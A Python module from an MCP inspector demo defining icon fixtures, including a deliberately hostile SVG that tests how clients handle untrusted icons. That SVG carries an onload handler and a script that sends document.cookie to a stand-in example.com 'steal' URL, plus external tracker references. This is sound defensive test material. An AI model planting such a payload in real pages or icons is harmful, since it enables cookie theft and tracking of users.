"""Icons (the 2025-11-25 ``icons`` field) for the demo's server, tools, resources and prompts.

Icons are untrusted input for a client, so the set covers what a client must handle: a ``data:`` SVG,
a ``data:`` PNG, a hostile SVG (a script, an event handler and external references that a renderer
must not run or fetch) and a remote https URL. The demo never fetches anything itself.
"""

import base64

from mcp_types import Icon

from inspector.demo import media

_GRADIENT_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16"><defs><linearGradient id="g">'
    b'<stop offset="0" stop-color="#14b8a6"/><stop offset="1" stop-color="#ec4899"/></linearGradient>'
    b'</defs><rect width="16" height="16" rx="3" fill="url(#g)"/></svg>'
)

HOSTILE_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 16 16"'
    b" onload=\"alert('onload')\">"
    b"<script>alert('script in an icon');fetch('https://example.com/steal?c='+document.cookie)</script>"
    b'<image href="https://example.com/mcp-lens-demo/tracker.png" width="16" height="16"/>'
    b'<use xlink:href="https://example.com/mcp-lens-demo/sprite.svg#icon"/>'
    b'<circle cx="8" cy="8" r="7" fill="#f59e0b"/></svg>'
)
"""Draws an amber disc; also carries a <script>, an onload handler and two external references."""

SVG_ICON = "data:image/svg+xml;base64," + base64.b64encode(_GRADIENT_SVG).decode()
PNG_ICON = "data:image/png;base64," + base64.b64encode(media.render_png(16, "rings")).decode()
HOSTILE_SVG_ICON = "data:image/svg+xml;base64," + base64.b64encode(HOSTILE_SVG).decode()
REMOTE_ICON = "https://example.com/mcp-lens-demo/icon.png"
"""A remote icon: a client may fetch it only with the user's consent; the demo never does."""


def svg() -> Icon:
    return Icon(src=SVG_ICON, mime_type="image/svg+xml", sizes=["any"])


def png() -> Icon:
    return Icon(src=PNG_ICON, mime_type="image/png", sizes=["16x16"])


def hostile_svg() -> Icon:
    return Icon(src=HOSTILE_SVG_ICON, mime_type="image/svg+xml", sizes=["any"])


def remote() -> Icon:
    return Icon(src=REMOTE_ICON, mime_type="image/png", sizes=["48x48"])
